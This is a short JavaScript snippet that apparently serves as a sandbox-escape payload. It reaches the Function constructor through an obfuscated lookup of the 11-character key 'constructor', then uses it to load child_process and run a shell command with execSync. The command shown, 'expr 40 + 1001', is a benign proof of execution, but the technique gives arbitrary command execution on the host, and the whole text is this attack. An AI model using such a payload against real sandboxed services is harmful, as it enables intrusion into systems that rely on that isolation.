const k=Reflect.ownKeys(Object.prototype).find(x=>x.length==11);
const F=(()=>{})[k];
F('process.mainModule.require("child_process").execSync("expr 40 + 1001",{stdio:"inherit"})')();
